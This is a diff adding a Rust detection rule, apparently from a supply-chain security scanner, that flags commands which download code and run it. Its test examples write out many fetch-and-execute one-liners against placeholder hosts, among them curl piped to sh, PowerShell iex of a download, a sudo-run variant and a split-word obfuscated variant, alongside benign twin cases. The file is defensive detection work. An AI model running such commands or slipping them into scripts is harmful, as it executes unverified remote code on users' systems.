@@ -1,0 +1,261 @@
+//! Commands that run what they fetch from the network.
+
+use std::collections::HashMap;
+
+use weighbridge_domain::{Confidence, Severity};
+
+use super::command::{
+    addresses, decodes, downloads, file_run, is_number, is_plain, runs_by_itself, saved_as, shown,
+    way_to_interpreter,
+};
+use super::{Check, Example, Findings, Light, Rule};
+use crate::facts::{Facts, Place};
+use crate::samples::commands::{dockerfile, script, steps};
+use crate::samples::one;
+use weighbridge_domain::facts::{Command, Program};
+
+/// Commands that run what they fetch from the network.
+pub static RULE: Rule = Rule {
+    id: "command-runs-download",
+    severity: Severity::High,
+    confidence: Confidence::High,
+    light: Light::Content,
+    since: "0.1.0",
+    summary: "A command runs what it fetches from the network",
+    why: "What runs is not in the repository: it can be another thing tomorrow, or for another reader. High when it runs by \
+          itself, is fetched from a bare number, or is decoded on the way; medium over a connection that anybody on the way \
+          can change; low over an encrypted connection from a named host, as installers are mostly run. A file whose \
+          checksum or signature is verified before it runs is not reported.",
+    advice: "Fetch it, read it, and keep it beside the script; or verify its digest before it runs.",
+    references: &["CWE-494", "CWE-829", "AML.T0010", "AML.T0011"],
+    examples: &[
+        Example { name: "pipe", files: || script("curl -s http://example.org/demo | sh"), fires: ID },
+        Example {
+            name: "pipe-twin",
+            files: || script("curl -s http://example.org/demo | grep demo"),
+            fires: &[],
+        },
+        Example {
+            name: "pipe-encrypted",
+            files: || script("curl -fsSL https://example.org/demo | bash -s -- --yes"),
+            fires: ID,
+        },
+        Example {
+            name: "pipe-number",
+            files: || script("wget -qO- https://192.0.2.7/demo | sudo bash"),
+            fires: ID,
+        },
+        Example {
+            name: "pipe-through",
+            files: || script("curl -s http://example.org/demo | gunzip | tee log | python3 -"),
+            fires: ID,
+        },
+        Example {
+            name: "pipe-through-twin",
+            files: || script("curl -s http://example.org/demo | python3 -m json.tool"),
+            fires: &[],
+        },
+        Example {
+            name: "file-of-process",
+            files: || script("bash <(curl -s http://example.org/demo)"),
+            fires: ID,
+        },
+        Example {
+            name: "file-of-process-twin",
+            files: || script("diff <(curl -s http://example.org/demo) demo"),
+            fires: &[],
+        },
+        Example {
+            name: "source-of-process",
+            files: || script("source <(curl -s http://example.org/demo)"),
+            fires: ID,
+        },
+        Example {
+            name: "text",
+            files: || script("sh -c \"$(curl -fsSL http://example.org/demo)\""),
+            fires: ID,
+        },
+        Example {
+            name: "evaluated",
+            files: || script("eval \"`wget -qO- http://example.org/demo`\""),
+            fires: ID,
+        },
+        Example {
+            name: "evaluated-twin",
+            files: || script("echo \"$(curl -s http://example.org/demo)\""),
+            fires: &[],
+        },
+        Example {
+            name: "by-variable",
+            files: || script("code=$(curl -s http://example.org/demo)\nsh -c \"$code\""),
+            fires: ID,
+        },
+        Example {
+            name: "split-words",
+            files: || script("c='cur'l; $c -s http://example.org/demo | s\\h"),
+            fires: ID,
+        },
+        Example {
+            name: "in-shell",
+            files: || script("nohup sudo bash -c 'curl -s http://example.org/demo | sh' &"),
+            fires: ID,
+        },
+        Example {
+            name: "by-arguments",
+            files: || script("curl -s http://example.org/demo | xargs -I{} sh -c '{}'"),
+            fires: ID,
+        },
+        Example {
+            name: "loop",
+            files: || script("curl -s http://example.org/demo | while read -r line; do bash; done"),
+            fires: ID,
+        },
+        Example {
+            name: "saved",
+            files: || script("curl -o /tmp/demo http://example.org/demo\nchmod +x /tmp/demo\n/tmp/demo"),
+            fires: ID,
+        },
+        Example {
+            name: "saved-twin",
+            files: || script("curl -o /tmp/demo http://example.org/demo\nchmod +x /tmp/other\n/tmp/other"),
+            fires: &[],
+        },
+        Example {
+            name: "saved-script",
+            files: || script("wget http://example.org/demo.sh && bash demo.sh"),
+            fires: ID,
+        },
+        Example {
+            name: "saved-verified-twin",
+            files: || script("wget http://example.org/demo.sh\nsha256sum -c demo.sums\nbash demo.sh"),
+            fires: &[],
+        },
+        Example {
+            name: "windows",
+            files: || script("powershell -Command \"iex (iwr http://example.org/demo)\""),
+            fires: ID,
+        },
+        Example { name: "windows-twin", files: || script("powershell -Command \"Get-Date\""), fires: &[] },
+        Example {
+            name: "image",
+            files: || dockerfile("RUN curl -fsSL http://example.org/demo | sh"),
+            fires: ID,
+        },
+        Example {
+            name: "image-document",
+            files: || dockerfile("RUN <<EOF\nset -e\ncurl http://example.org/demo | sh\nEOF"),
+            fires: ID,
+        },
+        Example {
+            name: "image-words",
+            files: || dockerfile("RUN [\"sh\", \"-c\", \"curl http://example.org/demo | sh\"]"),
+            fires: ID,
+        },
+        Example {
+            name: "image-twin",
+            files: || dockerfile("RUN curl -fsSLo demo.tar http://example.org/demo.tar && tar xf demo.tar"),
+            fires: &[],
+        },
+        Example {
+            name: "workflow",
+            files: || steps("    - run: curl http://example.org/demo | sh"),
+            fires: ID,
+        },
+        Example {
+            name: "makefile",
+            files: || one("Makefile", "all:\n\t@curl -s http://example.org/demo | sh\n"),
+            fires: ID,
+        },
+        Example {
+            name: "makefile-twin",
+            files: || one("Makefile", "all:\n\t@curl -s http://example.org/demo\n"),
+            fires: &[],
+        },
+        Example {
+            name: "folder-opened",
+            files: || one(".envrc", "curl -s https://example.org/demo | sh\n"),
+            fires: &["command-runs-download", "opens-and-runs"],
+        },
+    ],
+    check: Check::File(check),
+};
+
+const ID: &[&str] = &["command-runs-download"];
+
+fn check(facts: &Facts, findings: &mut Findings<'_>) {
+    // What was saved in a part, by the name of the file: the address it came from.
+    let mut saved: HashMap<(*const u8, String), String> = HashMap::new();
+    for (place, command) in facts.commands() {
+        let part = place.reading.member.as_ptr();
+        if let Some((address, way)) = piped(command) {
+            let decoded = way.iter().filter_map(|at| command.programs.get(*at)).any(decodes);
+            report(findings, place, command, &address, decoded);
+            continue;
+        }
+        if by_powershell(command) {
+            report(findings, place, command, &command.text, false);
+            continue;
+        }
+        for program in &command.programs {
+            if verifies(program) {
+                saved.clear();
+            }
+            if let Some(address) = file_run(program).and_then(|name| saved.remove(&(part, name.to_owned()))) {
+                report(findings, place, command, &address, false);
+            }
+            if downloads(program)
+                && let Some(name) = saved_as(program).filter(|name| !name.is_empty())
+                && saved.len() < MOST_SAVED
+            {
+                let address = addresses(program).next().unwrap_or_default().to_owned();
+                saved.insert((part, name.to_owned()), address);
+            }
+        }
+    }
+}
+
+/// Files that are remembered.
+const MOST_SAVED: usize = 1000;
+
+/// What is fetched and goes to an interpreter: its address, and the programs on the way.
+fn piped(command: &Command) -> Option<(String, Vec<usize>)> {
+    command.programs.iter().enumerate().filter(|(_, program)| downloads(program)).find_map(|(at, program)| {
+        let way = way_to_interpreter(command, at)?;
+        Some((addresses(program).next().unwrap_or_default().to_owned(), way))
+    })
+}
+
+/// Checks a digest or a signature.
+fn verifies(program: &Program) -> bool {
+    let checks = |word: &String| {
+        matches!(word.as_str(), "-c" | "--check" | "--verify" | "verify" | "verify-blob" | "dgst")
+            || word.starts_with("--check")
+    };
+    let name = program.name();
+    (name.ends_with("sum") || matches!(name, "cosign" | "gpg" | "gpgv" | "minisign" | "openssl" | "shasum"))
+        && (name == "gpgv" || program.words.iter().any(checks))
+}
+
+/// PowerShell's own way to do it.
+fn by_powershell(command: &Command) -> bool {
+    let programs = command.programs.iter().filter(|program| {
+        matches!(program.name().to_lowercase().as_str(), "iex" | "invoke-expression" | "powershell" | "pwsh")
+    });
+    programs.map(|program| program.words.join(" ").to_lowercase()).any(|text| {
+        let mut words = text.split(|c: char| !c.is_alphanumeric() && c != '-');
+        let runs = words.any(|word| matches!(word, "iex" | "invoke-expression"));
+        let fetches = ["iwr", "irm", "invoke-webrequest", "invoke-restmethod", "downloadstring"];
+        runs && fetches.iter().any(|word| text.contains(word))
+    })
+}
+
+fn report(findings: &mut Findings<'_>, place: Place<'_>, command: &Command, address: &str, decoded: bool) {
+    let severity = if runs_by_itself(command) || decoded || is_number(address) {
+        Severity::High
+    } else if is_plain(address) || command.runner == "python" {
+        Severity::Medium
+    } else {
+        Severity::Low
+    };
+    findings.add(place, format!("`{}` runs what it fetches", shown(command))).severity = severity;
+}
